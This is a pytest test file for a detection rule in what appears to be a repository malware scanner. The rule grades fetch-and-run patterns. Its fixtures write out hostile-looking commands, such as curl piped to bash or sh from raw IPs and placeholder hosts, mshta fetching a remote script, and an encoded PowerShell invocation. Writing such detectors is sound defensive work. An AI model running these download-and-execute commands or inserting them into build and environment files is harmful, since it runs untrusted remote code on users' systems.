import pytest

from lazaretto.detect.engine import Engine, FileResult
from lazaretto.detect.rules.repository.download_and_run import RULE
from lazaretto.model.finding import Confidence, Severity
from lazaretto.parse.blob import Blob
from lazaretto.parse.catalog import VIEWS


def examine(path: str, text: str) -> FileResult:
    return Engine([RULE], VIEWS).examine(Blob(path, text.encode()))


def graded(path: str, text: str) -> list[tuple[int, Severity, Confidence]]:
    result = examine(path, text)
    assert result.gaps == ()
    return [(f.locations[0].line, f.severity, f.confidence) for f in result.findings]


@pytest.mark.parametrize(
    ("path", "text", "severity", "confidence"),
    [
        ("start.sh", "curl -s http://203.0.113.7/s | bash", Severity.HIGH, Confidence.MEDIUM),
        ("start.sh", "curl -sL https://bit.ly/x | bash", Severity.MEDIUM, Confidence.MEDIUM),
        ("Makefile", "up:\n\tcurl https://x-y.vercel.app/a | sh", Severity.MEDIUM, Confidence.MEDIUM),
        ("Dockerfile", "FROM a\nRUN curl https://a.invalid/i.sh | sh", Severity.LOW, Confidence.MEDIUM),
        (".github/workflows/c.yml", "on: x\nrun: curl https://sh.rustup.rs | sh", Severity.LOW, Confidence.MEDIUM),
        ("x.bat", "@mshta http://a.invalid/x", Severity.HIGH, Confidence.MEDIUM),
        ("x.sh", "node assets/logo.png", Severity.MEDIUM, Confidence.MEDIUM),
        ("x.ps1", "powershell -enc dAByAHUAZQB0AHIAdQBlAA==", Severity.MEDIUM, Confidence.MEDIUM),
        (".envrc", "curl https://a.invalid/e | sh", Severity.HIGH, Confidence.HIGH),
    ],
)
def test_what_people_start(path: str, text: str, severity: Severity, confidence: Confidence) -> None:
    line = 2 if text.count("\n") else 1
    assert graded(path, text) == [(line, severity, confidence)]


@pytest.mark.parametrize(
    ("path", "text"),
    [
        ("x.sh", "curl -o a.tgz https://a.invalid/a.tgz && tar xf a.tgz"),
        ("x.sh", "npm ci && node server/index.js"),
        ("x.sh", "curl -s http://localhost:3000/health | python -m json.tool"),
        ("README.md", "curl http://203.0.113.7 | sh"),
    ],
)
def test_ordinary_scripts(path: str, text: str) -> None:
    assert graded(path, text) == []


def test_signals_say_what_a_script_runs() -> None:
    result = examine("scripts/up.sh", "node server/index.js")
    assert {s.value for s in result.signals if s.kind == "run"} == {"scripts/server/index.js", "server/index.js"}
